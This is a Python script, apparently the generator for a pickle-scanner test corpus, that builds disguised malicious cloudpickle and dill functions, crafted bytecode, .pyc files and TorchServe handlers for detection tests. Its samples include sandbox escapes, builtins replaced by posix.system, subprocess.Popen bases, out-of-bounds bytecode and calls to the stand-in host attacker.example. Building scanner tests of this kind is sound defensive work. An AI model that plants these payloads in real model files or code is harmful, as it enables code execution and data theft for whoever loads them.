"""
Functions, classes and modules that try to pass for ordinary code: each has one way out of what ordinary code may do, or is put together in a
way that dill and cloudpickle do not use.

The code is compiled by the Python 3.11 that writes the samples and taken apart again; nothing here calls it. What is meant to be read is in
the sources; what no compiler writes is made by changing the fields of a code object.
"""

import importlib.util
import marshal
import sys
from struct import pack
from types import CodeType

from assemble import *
from .archive import Member, archive
from .carried import CLOUDPICKLE, many
from .case import COMMAND, malicious, pickle
from .served import NET, manifest

if sys.version_info[:2] != (3, 11):
    raise SystemExit('the samples hold bytecode of Python 3.11: run this with it')

MAIN = dict_of((text('__package__'), NONE), (text('__name__'), text('__main__')))


def compiled(source):
    """The first function of a source."""
    return next(c for c in compile(source, 'project.py', 'exec', dont_inherit=True).co_consts if isinstance(c, CodeType))


def value(item):
    if isinstance(item, CodeType):
        return cloudpickle_code(item)
    if item is None:
        return NONE
    if item is True or item is False:
        return NEWTRUE if item else NEWFALSE
    if isinstance(item, tuple):
        return many(*map(value, item)) if item else EMPTY_TUPLE
    if isinstance(item, frozenset):
        return MARK + b''.join(map(value, sorted(item))) + FROZENSET
    return {int: integer, str: text, bytes: data, float: float_}[type(item)](item)


def fields(made, **changed):
    """The arguments of types.CodeType, each as opcodes."""
    of = lambda name: changed.get(name) or value(getattr(made, f'co_{name}'))
    return [of(name) for name in ('argcount', 'posonlyargcount', 'kwonlyargcount', 'nlocals', 'stacksize', 'flags', 'code', 'consts', 'names', 'varnames',
                                  'filename', 'name', 'qualname', 'firstlineno', 'linetable', 'exceptiontable', 'freevars', 'cellvars')]


CODE_TYPE = call(stack_global(CLOUDPICKLE, '_builtin_type'), text('CodeType'))


def cloudpickle_code(made, **changed):
    return CODE_TYPE + many(*fields(made, **changed)) + REDUCE


def dill_code(made, first=data(b''), **changed):
    return stack_global('dill._dill', '_create_code') + many(first, *fields(made, **changed)) + REDUCE


def module(name):
    return call(stack_global(CLOUDPICKLE, 'subimport'), text(name))


def function(code, base=MAIN, defaults=NONE, closure=NONE):
    return stack_global(CLOUDPICKLE, '_make_function') + many(code, base, text('f'), defaults, closure) + REDUCE


def with_state(made, given=(), **slots):
    """A function with its state, as cloudpickle sets it and drops the result of that."""
    of = {'__name__': text('f'), '__qualname__': text('f'), '__annotations__': EMPTY_DICT, '__kwdefaults__': NONE, '__defaults__': NONE, '__module__': text('__main__'),
          '__doc__': NONE, '__closure__': NONE, '_cloudpickle_submodules': EMPTY_LIST, '__globals__': dict_of(*given) if given else EMPTY_DICT, **slots}
    state = tuple_of(slots.pop('attributes', EMPTY_DICT), dict_of(*((text(key), item) for key, item in of.items() if key != 'attributes')))
    return made + put(200) + call(stack_global(CLOUDPICKLE, '_function_setstate'), get(200), state) + POP


def evil(name, about, body, expect='suspicious'):
    pickle(f'ordinary/{name}', about, '', proto(4) + body + STOP, expect)


def written(name, about, source, *given, expect='suspicious'):
    """A function of a source, with the modules that it is given."""
    evil(name, about, with_state(function(cloudpickle_code(compiled(source))), [(text(key), module(path)) for key, path in given]), expect)


# ── what the source of a function says ───────────────────────────────────────────────────────────────────────────────────────
NP = ('np', 'numpy')
TORCH = ('torch', 'torch')
WRITTEN = (
    ('subclasses', 'All classes, by the attributes of an empty tuple.', 'def f(x): return ().__class__.__bases__[0].__subclasses__()'),
    ('class-alone', 'The class of an argument is called.', 'def f(x): return x.__class__(1)'),
    ('class-name-of', 'More than the name of a class.', 'def f(x): return x.__class__.__mro__'),
    ('format-attribute', 'An attribute by the field of a text.', 'def f(x): return "{0.__class__.__init__.__globals__}".format(x)'),
    ('format-item', 'An item by the field of a text.', 'def f(x): return "{0[key]}".format(x)'),
    ('format-nested', 'A field inside the width of another.', 'def f(x): return "{:{0.__class__}}".format(x)'),
    ('format-computed', 'A text with fields that is put together.', 'def f(x): return ("{0.__cla" + "ss__}").format(x)'),
    ('format-map', 'The same by format_map.', 'def f(x): return "{x.__class__}".format_map({"x": x})'),
    ('format-builtin', 'The builtin format with a class of its own.', 'def f(x): return format(x, "s")'),
    ('generator-frame', 'The frame of a generator leads to the builtins.', 'def f(x):\n g = (i for i in x)\n return g.gi_frame.f_back.f_globals'),
    ('traceback-frame', 'The frame of a traceback does.', 'def f(x):\n try: return 1 / 0\n except Exception as e: return e.__traceback__.tb_frame.f_globals'),
    ('with-traceback', 'A traceback is handed over.', 'def f(x):\n try: return 1 / 0\n except Exception as e: return e.with_traceback(x).tb_next'),
    ('function-globals', 'The globals of a function.', 'def f(x): return f.__globals__'),
    ('init-globals', 'The globals of an initialiser.', 'def f(x): return x.__init__.__globals__'),
    ('getattr', 'getattr with a computed name.', 'def f(x): return getattr(x, "__cla" + "ss__")'),
    ('setattr', 'setattr with a computed name.', 'def f(x): setattr(x, "__array_inter" + "face__", {})'),
    ('type-of', 'The type of an argument.', 'def f(x): return type(x)'),
    ('type-made', 'A class made by type.', 'def f(x): return type("A", (), {"__del__": f})'),
    ('vars', 'The attributes of an argument as a dict.', 'def f(x): return vars(x)'),
    ('globals', 'The globals by name.', 'def f(x): return globals()["__buil" + "tins__"]'),
    ('builtins', 'The builtins by name.', 'def f(x): return __builtins__["eval"]'),
    ('import-function', 'The function behind import.', 'def f(x): return __import__("os")'),
    ('import-os', 'An import.', 'def f(x):\n import os\n return os.getcwd()'),
    ('import-from', 'An import of a function.', 'def f(x):\n from os import getcwd as sqrt\n return sqrt()'),
    ('import-below', 'A module below an ordinary one.', 'def f(x):\n import numpy.f2py\n return numpy.f2py'),
    ('import-from-below', 'The same, taken out of it.', 'def f(x):\n from numpy import testing as math\n return math'),
    ('import-two', 'One variable for two imports.', 'def f(x):\n import math as m\n if x:\n  import json as m\n return m.loads'),
    ('import-returned', 'An ordinary module is handed out.', 'def f(x):\n import numpy\n return numpy'),
    ('open', 'A file is opened.', 'def f(x): return open(x)'),
    ('eval', 'A text is evaluated.', 'def f(x): return eval(x)'),
    ('exec-hidden', 'exec as a value of a dict.', 'def f(x): return {"run": exec}'),
    ('compile', 'A text is compiled.', 'def f(x): return compile(x, "", "eval")'),
    ('breakpoint', 'The debugger.', 'def f(x): breakpoint()'),
    ('help', 'What site adds to the builtins.', 'def f(x): return help(x)'),
    ('print-file', 'print into an argument.', 'def f(x): print("attacker.example", file=x)'),
    ('print-keywords', 'print with names that are not told.', 'def f(x): print("attacker.example", **x)'),
    ('store-global', 'A builtin is given another meaning.', 'def f(x):\n global len\n len = x'),
    ('delete-global', 'A global is deleted.', 'def f(x):\n global y\n del y'),
    ('store-array-interface', 'An attribute that makes NumPy read memory.', 'def f(x): x.__array_interface__ = {"data": (4096, False)}'),
    ('store-dtype', 'The type of an array is changed in place.', 'def f(x): x.dtype = "O"'),
    ('store-strides', 'The strides of an array are.', 'def f(x): x.strides = (8,)'),
    ('store-item', 'An item of an argument, which pandas then reads as an attribute.', 'def f(x): x["__array_inter" + "face__"] = {"data": (4096, False)}'),
    ('delete-attribute', 'An attribute is deleted.', 'def f(x): del x.flags'),
    ('tofile', 'A method of arrays that writes a file.', 'def f(x): x.tofile("attacker.example")'),
    ('dump', 'The same as a pickle.', 'def f(x): x.dump("attacker.example")'),
    ('ctypes', 'The memory of an array.', 'def f(x): return x.ctypes.data'),
    ('to-pickle', 'A method of tables that writes a file.', 'def f(x): x.to_pickle("attacker.example")'),
    ('to-csv', 'The same as text.', 'def f(x): return x.to_csv("attacker.example")'),
    ('table-eval', 'An expression in a text.', 'def f(x): return x.eval("a = @x")'),
    ('table-query', 'The same as a condition.', 'def f(x): return x.query("a > @x")'),
    ('table-apply', 'A method of tables by its name.', 'def f(x): return x.apply("to_pickle", args=("attacker.example",))'),
    ('table-transform', 'The same.', 'def f(x): return x.transform("to_csv", 0, "attacker.example")'),
    ('path-replace', 'A method that moves a file where the argument is a path.', 'def f(x): return x.replace("attacker.example")'),
    ('session-post', 'A method that sends where the argument is a session.', 'def f(x): return x.post("https://attacker.example")'),
    ('cell-contents', 'What a closure holds.', 'def f(x): return x.cell_contents'),
    ('code-of', 'The code of a function.', 'def f(x): return x.__code__.co_consts'),
    ('own-attribute', 'An attribute that the function sets itself has the name of a method.', 'def f(x, y):\n x.tofile = 1\n return y.tofile("attacker.example")'),
    ('own-loads', 'The same with the name of a loader.', 'def f(x, y):\n x.loads = 1\n return y.loads(b"")'),
    ('class-inside', 'A class is made while the function runs.', 'def f(x):\n class A(metaclass=x): pass\n return A'),
    ('class-special', 'A class with a special method.', 'def f(x):\n class A:\n  def __getattr__(self, name): return x\n return A()'),
    ('class-pattern', 'A pattern reads an attribute without a dot.', 'def f(x):\n match x:\n  case object(gi_frame=frame): return frame'),
    ('async', 'A coroutine, which somebody else runs.', 'async def f(x): return await x'),
    ('yield-from', 'A generator that hands on to another.', 'def f(x): yield from x'),
    ('super-attribute', 'An attribute of the class above that reads all others.', 'class A:\n def f(x): return super().__getattribute__("a")'),
    ('unused-name', 'A name that only dead code would use.', 'def f(x):\n return 1\n x.system'),
    ('default-of-lambda', 'A default that is computed.', 'def f(x): return lambda y=eval("1"): y'),
    ('decorator-inside', 'A decorator is an attribute that runs texts.', 'def f(x):\n @x.eval\n def g(): pass\n return g'),
    ('variable', 'An argument bears the name of an attribute that classes set from their arguments.', 'def f(x, __array_interface__=None): return x'),
)
for case in WRITTEN:
    source = case[2]
    if source.startswith('class'):
        inner = next(c for c in compiled(source).co_consts if isinstance(c, CodeType))
        evil(case[0], case[1], with_state(function(cloudpickle_code(inner), closure=tuple_of(call(stack_global(CLOUDPICKLE, '_make_empty_cell'))))))
    else:
        written(*case)
OF_MODULES = (
    ('numpy-load', 'NumPy loads a file, which may be a pickle.', 'np.load(x, allow_pickle=True)', NP),
    ('numpy-save', 'NumPy writes one.', 'np.save("attacker.example", x)', NP),
    ('numpy-memmap', 'NumPy maps one.', 'np.memmap(x)', NP),
    ('numpy-lib', 'A module inside of NumPy.', 'np.lib.format.open_memmap(x)', NP),
    ('numpy-core', 'Another, which has os.', 'np.core.os', NP),
    ('numpy-char', 'A module that has sys.', 'np.char.sys.modules', NP),
    ('numpy-testing', 'Another, which runs code.', 'np.testing.rundocs(x)', NP),
    ('numpy-strides', 'An array beyond its memory.', 'np.lib.stride_tricks.as_strided(x, (99,))', NP),
    ('numpy-vectorize', 'NumPy evaluates a signature.', 'np.vectorize(x)', NP),
    ('numpy-passed', 'The module is handed on.', '(lambda m: m.load)(np)', NP),
    ('numpy-item', 'The module as the value of a dict.', '{"m": np}', NP),
    ('torch-load', 'PyTorch loads a pickle.', 'torch.load(x)', TORCH),
    ('torch-hub', 'PyTorch fetches and runs.', 'torch.hub.load("attacker/example", "net")', TORCH),
    ('torch-ops', 'PyTorch loads a library.', 'torch.ops.load_library(x)', TORCH),
    ('torch-compile', 'PyTorch compiles.', 'torch.compile(x)', TORCH),
    ('functools-wraps', 'Attributes copied by name.', 'functools.update_wrapper(x, f, ("__globals__",))', ('functools', 'functools')),
    ('operator-attrgetter', 'Attributes read by name.', 'operator.attrgetter("__class__")(x)', ('operator', 'operator')),
    ('operator-methodcaller', 'Methods called by name.', 'operator.methodcaller("tofile", "attacker.example")(x)', ('operator', 'operator')),
    ('typing-hints', 'Annotations are evaluated.', 'typing.get_type_hints(x)', ('typing', 'typing')),
    ('namedtuple', 'A class is made of a text.', 'collections.namedtuple("A", x)', ('collections', 'collections')),
    ('string-formatter', 'Attributes by the fields of a text.', 'string.Formatter().get_field("0.__class__", (x,), {})', ('string', 'string')),
    ('random-system', 'A module inside of another.', 'random._os', ('random', 'random')),
    ('json-codecs', 'The same.', 'json.codecs.open(x)', ('json', 'json')),
    ('alias-os', 'os under the name of NumPy.', 'np.mean(x)', ('np', 'os')),
    ('alias-below', 'A module below NumPy under its name.', 'np.mean(x)', ('np', 'numpy.f2py')),
    ('builtin-is-module', 'A module under the name of a builtin.', 'len(x)', ('len', 'math')),
    ('pickle-module', 'The module of pickles under another name.', 'json.loads(x)', ('json', 'pickle')),
)
for name, about, expression, given in OF_MODULES:
    written(name, about, f'def f(x): return {expression}', given)

# ── what the pickle makes of honest code ─────────────────────────────────────────────────────────────────────────────────────
PLAIN = compiled('def f(x): return len(x)')
CODE = cloudpickle_code(PLAIN)
MADE = with_state(function(CODE))
SYSTEM = stack_global('posix', 'system')


def own_class(attributes=EMPTY_DICT, *, type_=stack_global('builtins', 'type'), bases=tuple_of(stack_global('builtins', 'object')), kwargs=dict_of((text('__module__'), text('__main__')))):
    made = stack_global(CLOUDPICKLE, '_make_skeleton_class') + many(type_, text('A'), bases, kwargs, text('0' * 32), NONE) + REDUCE
    return made + put(201) + call(stack_global(CLOUDPICKLE, '_class_setstate'), get(201), tuple_of(attributes, EMPTY_DICT)) + POP


def attribute(name, item=MADE):
    return own_class(dict_of((text(name), item)))


METHOD = dict_of((text('run'), MADE))


def instance(of, state=None):
    return of + EMPTY_TUPLE + NEWOBJ + (b'' if state is None else state + BUILD)


def leaked(name, about, item):
    """A value that ordinary code must never get hold of, among the globals of a function."""
    evil(name, about, with_state(function(CODE), [(text('y'), item)]))


evil('given-builtins', 'The globals bring builtins of their own.', with_state(function(CODE), [(text('__builtins__'), dict_of((text('len'), SYSTEM)))]), 'dangerous')
evil('given-loader', 'The globals bring a loader.', with_state(function(CODE), [(text('__loader__'), NONE)]))
evil('given-len', 'A builtin stands for a command.', with_state(function(CODE), [(text('len'), SYSTEM)]), 'dangerous')
evil('given-eval', 'A harmless value under the name of a builtin that evaluates.', with_state(function(CODE), [(text('eval'), NONE)]))
evil('given-by-base', 'The same in the dict that the function is made with.', function(CODE, base=dict_of((text('len'), SYSTEM))), 'dangerous')
evil('given-twice', 'One name stands for two modules.', with_state(function(cloudpickle_code(compiled('def f(x): return np.mean(x)'))), [(text('np'), module('numpy')), (text('np'), module('json'))]))
evil('closure', 'A variable of the function around is a command.', with_state(function(cloudpickle_code(next(c for c in compiled('def g(y):\n def f(x): return y(x)\n return f').co_consts if isinstance(c, CodeType))), closure=tuple_of(call(stack_global(CLOUDPICKLE, '_make_cell'), SYSTEM)))), 'dangerous')
evil('default', 'A default is a command.', with_state(function(CODE), __defaults__=tuple_of(SYSTEM)), 'dangerous')
evil('state-code', 'The code of the function is set afterwards.', with_state(function(CODE), __code__=NONE))
evil('state-special', 'The function is given an attribute that makes NumPy read memory.', with_state(function(CODE), attributes=dict_of((text('__array_interface__'), EMPTY_DICT))))
evil('state-of-library', 'The state goes to a function of NumPy, whose module it would change.', call(stack_global(CLOUDPICKLE, '_function_setstate'), stack_global('numpy.core.multiarray', '_reconstruct'), tuple_of(EMPTY_DICT, dict_of((text('__globals__'), EMPTY_DICT)))) + POP + MADE)
evil('class-of-library', 'A class of a library is changed.', call(stack_global(CLOUDPICKLE, '_class_setstate'), stack_global('collections', 'OrderedDict'), tuple_of(dict_of((text('get'), MADE)), EMPTY_DICT)))
for special in ('__reduce__', '__reduce_ex__', '__setstate__', '__del__', '__getattr__', '__getattribute__', '__init_subclass__', '__class_getitem__', '__set_name__', '__array_interface__', '__array__', '__new__', '__torch_function__', '_repr_html_', '_abc_impl'):
    evil(f'class{special.rstrip("_").replace("__", "-").replace("_", "-")}', f'A class with {special}.', instance(attribute(special)))
evil('class-metaclass', 'The class is made by something else.', instance(own_class(METHOD, type_=stack_global('some_private_pkg', 'Meta'))))
evil('class-metaclass-function', 'The class is made by a function of the stream.', instance(own_class(METHOD, type_=MADE)))
evil('class-base', 'The class builds upon one that runs commands.', instance(own_class(METHOD, bases=tuple_of(stack_global('subprocess', 'Popen')))), 'dangerous')
evil('class-base-trusted', 'The class builds upon one of a library that nobody looked at for that.', instance(own_class(METHOD, bases=tuple_of(stack_global('collections', 'OrderedDict')))))
evil('class-called', 'The class is called, so that its code runs at once.', call(attribute('__init__')))
evil('class-new-arguments', 'The class is asked for an object with arguments.', attribute('a') + tuple_of(integer(1)) + NEWOBJ)
evil('instance-state', 'The state of an object makes NumPy read memory.', instance(attribute('a'), dict_of((text('__array_interface__'), EMPTY_DICT))), 'dangerous')
evil('called', 'The function is called while the stream is read.', MADE + tuple_of(text('x')) + REDUCE)
evil('map-called', 'It is called by map.', call(stack_global('builtins', 'map'), MADE, tuple_of(text('x'))), 'dangerous')
leaked('leak-make-function', 'The maker of functions is handed to the code.', stack_global(CLOUDPICKLE, '_make_function'))
leaked('leak-builtin-type', 'The finder of types is.', stack_global(CLOUDPICKLE, '_builtin_type'))
leaked('leak-code-type', 'The type of code is.', CODE_TYPE)
leaked('leak-code', 'A code object is.', CODE)
leaked('leak-subimport', 'What imports modules is.', stack_global(CLOUDPICKLE, 'subimport'))
leaked('leak-type', 'type is.', own_class() + POP + stack_global('builtins', 'type'))
leaked('leak-type-dill', 'type out of the table of dill is.', call(stack_global('dill._dill', '_load_type'), text('type')))
leaked('leak-setattr', 'setattr, as dill asks for it, is.', call(stack_global('builtins', 'getattr'), stack_global('dill', '_dill'), text('_setattr'), stack_global('builtins', 'setattr')))
leaked('leak-dill', 'The module of dill is.', stack_global('dill', '_dill'))
leaked('leak-in-list', 'The finder of types is behind the items of a list that are kept.', EMPTY_LIST + MARK + NONE * 100 + stack_global(CLOUDPICKLE, '_builtin_type') + APPENDS)
leaked('leak-in-dict', 'It is in an OrderedDict, whose items are not kept.', call(stack_global('collections', 'OrderedDict')) + MARK + text('a') + stack_global(CLOUDPICKLE, '_builtin_type') + SETITEMS)
leaked('leak-in-tuple', 'It is behind the items of a tuple that are kept.', many(*([NONE] * 600), stack_global(CLOUDPICKLE, '_builtin_type')))
leaked('leak-in-state', 'It is in the state of an object.', instance(attribute('a'), dict_of((text('b'), stack_global(CLOUDPICKLE, '_builtin_type')))))
leaked('leak-array-class', 'The class of arrays is, which makes arrays over any memory.', stack_global('numpy', 'ndarray'))
leaked('leak-trusted', 'A helper of NumPy that files are made of is.', stack_global('numpy.core.multiarray', 'scalar'))
leaked('leak-reconstructor', 'What makes objects of any class is.', stack_global('copyreg', '_reconstructor'))
leaked('create-array', 'dill makes an array by calling what the file says.', call(stack_global('dill._dill', '_create_array'), MADE, EMPTY_TUPLE, EMPTY_TUPLE, NONE))
leaked('function-type', 'The type of functions.', call(stack_global(CLOUDPICKLE, '_builtin_type'), text('FunctionType')))
leaked('load-type', 'The type of functions out of the table of dill.', call(stack_global('dill._dill', '_load_type'), text('FunctionType')))
leaked('dynamic-module', 'A module made of a dict.', call(stack_global(CLOUDPICKLE, 'dynamic_subimport'), text('m'), EMPTY_DICT))
leaked('import-attribute', 'dill imports a function by the name of a module.', call(stack_global('dill._dill', '_import_module'), text('os.system')))
leaked('import-submodule', 'A module below an ordinary one.', module('numpy.f2py'))
leaked('import-computed', 'A module whose name is the result of a call.', stack_global(CLOUDPICKLE, 'subimport') + call(stack_global('_codecs', 'decode'), data(b'os')) + TUPLE1 + REDUCE)
leaked('extension', 'A number that the registry of copyreg turns into something.', ext1(7))
leaked('persistent', 'Something that the program supplies.', text('x') + BINPERSID)
evil('module-state', 'A module is given a state: its functions are replaced.', with_state(function(CODE), [(text('y'), module('math') + dict_of((text('sqrt'), NONE)) + BUILD)]))
evil('module-items', 'A module is given items.', with_state(function(CODE), [(text('y'), module('math') + MARK + text('sqrt') + NONE + SETITEMS)]), 'suspicious')
evil('setattr-code', 'dill\'s setattr on something else than a cell.', call(call(stack_global('builtins', 'getattr'), stack_global('dill', '_dill'), text('_setattr'), stack_global('builtins', 'setattr')), MADE, text('__code__'), NONE))
evil('two-streams', 'Another stream behind the first.', MADE + STOP + proto(4) + MADE)
evil('new-function', 'The function is made by NEWOBJ.', stack_global(CLOUDPICKLE, '_make_function') + many(CODE, MAIN, text('f'), NONE, NONE) + NEWOBJ)
evil('simple-namespace', 'An object with any attributes.', call(stack_global('types', 'SimpleNamespace')) + POP + MADE)
evil('method-type', 'A method of something else.', call(stack_global('types', 'MethodType'), MADE, NONE))
evil('reconstructor', 'copyreg makes the object.', call(stack_global('copyreg', '_reconstructor'), SYSTEM, stack_global('builtins', 'object'), NONE) + POP + MADE, 'dangerous')

# ── what no compiler writes ──────────────────────────────────────────────────────────────────────────────────────────────────
NEXT = compiled('def f(x, y):\n for i in x: y = i\n return y')
CLOSED = next(c for c in compiled('def g(y):\n def f(x): return y\n return f').co_consts if isinstance(c, CodeType))
RESUME, RETURN = b'\x97\x00', b'S\x00'


def crafted(name, about, of=PLAIN, **changed):
    evil(f'bytecode-{name}', about, with_state(function(cloudpickle_code(of, **changed))))


def instructions(name, about, body, of=PLAIN, before=b'', **changed):
    crafted(name, about, of, code=data(before + RESUME + body + RETURN), **changed)


instructions('constant', 'A constant beyond the last: CPython takes memory for an object.', b'd\x63')
instructions('extended', 'The same by a long operand.', b'\x90\xff\x90\xffd\x63')
instructions('name', 'A name beyond the last.', b't\x63' + bytes(10) + b'\x01\x00d\x00')
instructions('local', 'A variable beyond the last.', b'|\x63')
instructions('underflow', 'More is taken from the stack than is on it.', b'\x01\x00\x01\x00|\x00')
instructions('overflow', 'More is put onto the stack than it has room for.', b'|\x00' * 40 + b'\x01\x00' * 39)
instructions('leftover', 'More than the result is left on the stack.', b'|\x00|\x00')
instructions('list-append', 'An item is added to what is no list.', b'|\x00|\x00\x91\x01')
instructions('null', 'The NULL of a call is returned.', b'\x02\x00')
instructions('deref', 'A variable is taken for a cell.', b'\x89\x00')
instructions('store-cell', 'A cell is overwritten, and then taken for one.', b'|\x00}\x01\x89\x01', CLOSED, b'\x95\x01')
instructions('cell-as-value', 'The number of free variables is another one.', b'\x89\x01', CLOSED, b'\x95\x00')
instructions('iterate', 'A loop over what is no iterator.', b'|\x00]\x01\x01\x00d\x00')
instructions('jump-inside', 'A jump into the operand of an instruction.', b'\x90\x01n\x01d\x00')
instructions('jump-cache', 'A jump into the cache of an instruction.', b'n\x02t\x00' + bytes(10) + b'\x01\x00d\x00')
instructions('jump-beyond', 'A jump behind the end.', b'n\x63')
instructions('jump-past-prefix', 'A jump behind the prefix of an operand.', b'n\x01\x90\x01d\x00')
instructions('specialised', 'An instruction that CPython only makes itself.', b'\x03\x00d\x00')
instructions('cache-instruction', 'A cache as an instruction.', b'\x00\x00d\x00')
instructions('binary-operator', 'An operation beyond the last of its table.', b'|\x00|\x00z\x63\x00\x00')
instructions('compare-operator', 'A comparison beyond the last of its table.', b'|\x00|\x00k\x63\x00\x00\x00\x00')
instructions('intrinsic', 'IMPORT_STAR in a function.', b'd\x00T\x00d\x00')
instructions('make-function', 'A function is made of what is no code.', b'd\x00\x84\x00')
instructions('defaults', 'Its defaults are no tuple.', b'|\x00d\x00\x84\x01', consts=tuple_of(CODE))
instructions('closure', 'Its closure is no tuple of cells.', b'|\x00f\x01d\x00\x84\x08', consts=tuple_of(cloudpickle_code(CLOSED)))
instructions('keyword-names', 'The names of arguments are no texts.', b'\x02\x00|\x00|\x00\xac\x00\xa6\x01\x00\x00\xab\x01' + bytes(8))
instructions('call-apart', 'The parts of a call stand apart.', b'\x02\x00|\x00\xa6\x00\x00\x00\x09\x00\xab\x00' + bytes(8))
instructions('kwargs', 'A call with keywords that are no dict.', b'\x02\x00|\x00|\x00|\x00\x8e\x01', stacksize=integer(9))
instructions('push-exception', 'What is no exception is taken for one.', b'|\x00#\x00\x01\x00')
instructions('pop-exception', 'What is no exception is put back as one.', b'|\x00Y\x00d\x00')
instructions('yield', 'A function that yields and is no generator.', b'|\x00V\x00')
instructions('half', 'Half an instruction at the end.', b'd\x00S\x00\x97')
crafted('no-return', 'The code runs past its end.', code=data(RESUME + b'd\x00'))
crafted('no-resume', 'It does not begin as code does.', code=data(b'd\x00' + RETURN))
crafted('full-cache', 'A cache that CPython believes is filled in.', code=data(PLAIN.co_code.replace(b't\x01' + bytes(4), b't\x01\x00\x00\x05\x05')))
crafted('stack-size', 'The stack is smaller than the code needs.', stacksize=integer(1))
crafted('stack-negative', 'The stack is smaller than nothing.', stacksize=integer(-1))
crafted('local-count', 'Fewer variables than there are names.', nlocals=integer(0))
crafted('arguments', 'More arguments than variables.', argcount=integer(9))
crafted('boolean', 'A number that is True.', argcount=NEWTRUE)
crafted('flags-generator', 'A function that says it is a generator.', flags=integer(0x23))
crafted('flags-module', 'A function that says it is a module: it writes its variables into the globals.', flags=integer(0x40))
crafted('flags-unknown', 'Flags of another CPython.', flags=integer(0x10000003))
crafted('handlers', 'A handler in the middle of an instruction.', exceptiontable=data(b'\x80\x01\x02\x00'))
crafted('handlers-depth', 'A handler that expects more on the stack than is there.', exceptiontable=data(b'\x80\x01\x00\x0a'))
crafted('handlers-not-shown', 'Handlers in a call of bytes.', exceptiontable=call(stack_global('builtins', 'bytes'), many(integer(0x81), integer(1), integer(2), integer(10))))
crafted('dotted-name', 'A name with a dot in it.', names=tuple_of(text('os.system')))
crafted('unicode-name', 'A name that is another one once it is normalised.', names=tuple_of(text('\uff45\uff56\uff41\uff4c')))
crafted('unused', 'A name that nothing uses.', names=tuple_of(text('len'), text('system')))
evil('bytecode-twice', 'Two variables of one name.', with_state(function(cloudpickle_code(NEXT, varnames=tuple_of(text('x'), text('x'), text('i'))))))
evil('bytecode-free-is-local', 'A free variable has the name of a variable, so that they are counted otherwise.', with_state(function(cloudpickle_code(CLOSED, freevars=tuple_of(text('x'))), closure=tuple_of(call(stack_global(CLOUDPICKLE, '_make_empty_cell'))))))
crafted('names-list', 'The names are a list.', names=EMPTY_LIST + MARK + text('len') + APPENDS)
crafted('constant-call', 'A constant is what a call returns.', consts=tuple_of(call(stack_global('collections', 'OrderedDict'))))
crafted('constant-code', 'Code inside of a tuple among the constants.', consts=tuple_of(NONE, tuple_of(CODE)))
evil('bytecode-comprehension', 'The code of a comprehension as a function: it takes an iterator for granted.', with_state(function(cloudpickle_code(next(c for c in compiled('def f(x): return [i for i in x]').co_consts if isinstance(c, CodeType))))))
evil('bytecode-class-body', 'The body of a class as a function.', with_state(function(cloudpickle_code(compiled('class A: x = 1')))))
evil('bytecode-as-text', 'Bytecode as a text, which dill encodes.', stack_global('dill._dill', '_create_function') + many(dill_code(PLAIN, code=text('\x01\x01')), MAIN, text('f'), NONE, NONE) + REDUCE)
evil('bytecode-first', 'Something in front of the code that is no line table.', stack_global('dill._dill', '_create_function') + many(dill_code(PLAIN, first=text('')), MAIN, text('f'), NONE, NONE) + REDUCE)
evil('bytecode-count', 'As many arguments as PyPy has.', with_state(function(CODE_TYPE + many(*fields(PLAIN)[:15], *fields(PLAIN)[16:]) + REDUCE)))


# ── compiled modules ─────────────────────────────────────────────────────────────────────────────────────────────────────────
def pyc(name, about, source, magic=None, expect='suspicious', change=lambda code: code):
    code = change(compile(source, 'module.py', 'exec', dont_inherit=True))
    header = (magic or importlib.util.MAGIC_NUMBER) + pack('<III', 0, 0x5F000000, 16)
    malicious(f'python-bytecode/ordinary-{name}.pyc', about, '', header + marshal.dumps(code, 4), expect)


pyc('call', 'A call while the module is loaded.', 'import math\nx = math.sqrt(4)\n')
pyc('metaclass', 'A class with a metaclass.', 'class M: pass\nclass A(metaclass=M): pass\n')
pyc('init-subclass', 'A class that runs code for each class below it.', 'class A:\n def __init_subclass__(cls): pass\nclass B(A): pass\n')
pyc('decorator', 'A decorator that is a method of a text.', '@"{0.__class__}".format\ndef f(): pass\n')
pyc('default', 'A default that is computed.', 'def f(x, y=eval("1")): return x\n')
pyc('base', 'A class that builds upon the result of a call.', 'class A(str.join): pass\n')
pyc('star', 'Everything of a module.', 'from math import *\n')
pyc('os', 'A module with a plain import.', 'import os\ndef f(): return os.getcwd()\n')
pyc('shadow', 'A builtin is an imported function.', 'from os import getcwd as len\ndef f(x): return len()\n')
pyc('alias', 'A name stands for a module and for something else.', 'import numpy as np\nnp = [np]\ndef f(x): return np.load(x)\n')
pyc('getattr', 'The module answers for attributes that it has not.', 'def __getattr__(name): return name\n')
pyc('class-body', 'The body of a class calls.', 'class A:\n x = open("attacker.example")\n')
pyc('reduce', 'A class with __reduce__.', 'class A:\n def __reduce__(self): return (len, ((),))\n')
pyc('loop', 'A loop while the module is loaded.', 'import json\nfor x in "ab": json.loads(x)\n')
pyc('comprehension', 'A comprehension that calls while the module is loaded.', 'import json\nx = [json.loads(y) for y in "ab"]\n')
pyc('other-version', 'The header names another version than the code is of.', 'def f(x): return x\n', magic=pack('<HH', 3413, 0x0A0D))
pyc('later-version', 'The header names a later version.', 'def f(x): return x.mean()\n', magic=pack('<HH', 3531, 0x0A0D))
pyc('star-argument', 'A decorator is called with what is not told.', 'import functools\n@functools.lru_cache(None)\ndef f(): pass\n')
pyc('constant', 'A constant beyond the last in a function of the module.', 'def f(x): return x\n', change=lambda code: code.replace(co_consts=tuple(
    c.replace(co_code=RESUME + b'd\x63' + RETURN) if isinstance(c, CodeType) else c for c in code.co_consts)))


# ── handlers ─────────────────────────────────────────────────────────────────────────────────────────────────────────────────
def handler(name, about, source, expect='suspicious'):
    code = source if isinstance(source, bytes) else source.encode()
    malicious(f'torchserve/ordinary-{name}.mar', about, '', archive(manifest(handler='work.py'), NET, Member('work.py', code)), expect)


BODY = 'def handle(data, context):\n    return '
BASE = 'from ts.torch_handler.base_handler import BaseHandler\n\n\nclass Work(BaseHandler):\n    '
for name, about, source in (
    ('f-string', 'Code inside of a text.', BODY + 'f"{data.__class__}"\n'),
    ('coding', 'Source in an encoding of its own.', '# coding: utf-7\n' + BODY + 'data\n'),
    ('fullwidth', 'Letters that CPython turns into others.', BODY + '\uff45\uff56\uff41\uff4c(data)\n'),
    ('number', 'An attribute behind a number.', BODY + '1.0.__class__\n'),
    ('carriage-return', 'A line that ends where only CPython sees it.', b'def handle(data, context):\n    # a\r    return open(data)\n'),
    ('form-feed', 'A blank that sets the indentation back.', b'def handle(data, context):\n    pass\n\x0copen("attacker.example")\n'),
    ('escape', 'A field in a text by an escape.', BODY + '"\\x7b0.__class__}".format(data)\n'),
